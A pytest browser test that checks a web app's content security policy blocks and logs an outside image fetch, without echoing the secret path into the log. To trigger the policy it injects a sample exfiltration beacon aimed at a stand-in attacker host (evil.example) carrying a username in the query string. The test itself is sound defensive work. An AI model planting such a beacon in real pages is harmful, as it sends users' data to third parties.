"""What the content policy stops is told to the operator."""

from __future__ import annotations

import logging

import pytest
from playwright.sync_api import BrowserContext
from tests.browser.conftest import Site
from tests.fakes.waiting import wait_until

pytestmark = pytest.mark.browser


def test_what_a_page_may_not_fetch_stands_in_the_log(
    context: BrowserContext, site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "backbeat.http")
    page = context.new_page()
    page.goto(f"{site.address}/terms")

    page.evaluate("new Image().src = 'https://evil.example/secret.png?who=mina'")

    line = "csp img-src stopped=https://evil.example page=/terms"
    wait_until(lambda: line in caplog.text, "the line in the log")
    assert "secret" not in caplog.text
